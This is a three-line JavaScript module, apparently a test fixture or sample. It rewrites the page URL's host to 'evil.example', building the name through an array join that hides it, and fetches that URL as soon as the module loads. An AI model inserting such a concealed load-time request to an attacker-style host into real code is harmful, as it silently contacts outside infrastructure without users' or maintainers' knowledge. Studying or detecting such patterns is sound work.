const u = new URL("/x", location.href);
u.host = ["evil", "example"].join(".");
export const t = fetch(u);
